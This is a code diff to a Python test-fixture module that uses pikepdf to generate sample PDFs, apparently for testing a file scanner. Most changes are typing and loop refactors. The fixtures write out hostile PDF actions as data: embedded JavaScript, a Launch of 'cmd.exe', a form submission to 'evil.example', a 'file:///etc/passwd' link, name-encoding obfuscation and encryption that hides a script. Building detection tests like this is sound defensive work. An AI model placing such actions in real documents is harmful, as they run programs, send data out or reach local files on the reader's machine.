@@ -11,6 +11,7 @@ import zlib
 from collections.abc import Callable, Iterator
 from dataclasses import dataclass
 from io import BytesIO
+from typing import Any
 
 import pikepdf
 
@@ -244,7 +245,7 @@ def contents() -> Iterator[Sample]:
     yield _document("broken XML", {"word/a.xml": b"<a><b></a>"})
 
 
-def _pdf(change: Callable[[pikepdf.Pdf], None], **options: object) -> bytes:
+def _pdf(change: Callable[[pikepdf.Pdf], None], **options: Any) -> bytes:
     document = pikepdf.new()
     document.add_blank_page()
     change(document)
@@ -263,7 +264,7 @@ def _action(**entries: object) -> Callable[[pikepdf.Pdf], None]:
 def pdfs() -> Iterator[Sample]:
     """PDFs that run, start, send or carry something, plainly and packed away."""
     name = pikepdf.Name
-    actions: dict[str, dict[str, object]] = {
+    actions: dict[str, dict[str, Any]] = {
         "script": {"/S": name.JavaScript, "/JS": "app.alert(1)"},
         "program": {"/S": name.Launch, "/F": "cmd.exe"},
         "sending": {"/S": name.SubmitForm, "/F": "http://evil.example"},
@@ -274,14 +275,14 @@ def pdfs() -> Iterator[Sample]:
         "a file address": {"/S": name.URI, "/URI": "file:///etc/passwd"},
         "a rendition": {"/S": name.Rendition},
     }
-    packed = {"object_stream_mode": pikepdf.ObjectStreamMode.generate}
+    packed: dict[str, Any] = {"object_stream_mode": pikepdf.ObjectStreamMode.generate}
     for label, entries in actions.items():
-        for way, options in (("", {}), (", packed", packed)):
-            yield Sample(f"pdf: {label}{way}", "a.pdf", _pdf(lambda d, e=entries: _action(**e)(d), **options))
-    plain = {"/S": name.JavaScript, "/JS": "app.alert(1)"}
+        for way, options in zip(("", ", packed"), ({}, packed), strict=True):
+            yield Sample(f"pdf: {label}{way}", "a.pdf", _pdf(_action(**entries), **options))
+    plain: dict[str, Any] = {"/S": name.JavaScript, "/JS": "app.alert(1)"}
     spelled = _pdf(_action(**plain)).replace(b"/JavaScript", b"/J#61vaScript").replace(b"/JS", b"/#4AS")
     yield Sample("pdf: script, spelled in numbers", "a.pdf", spelled)
-    locked = {"encryption": pikepdf.Encryption(owner="o", user="", R=6)}
+    locked: dict[str, Any] = {"encryption": pikepdf.Encryption(owner="o", user="", R=6)}
     yield Sample("pdf: script, under an owner's password", "a.pdf", _pdf(_action(**plain), **locked))
     yield Sample("pdf: password", "a.pdf", _pdf(lambda d: None, encryption=pikepdf.Encryption(owner="o", user="u")))
     yield Sample("pdf: attachment", "a.pdf", _pdf(_attach))
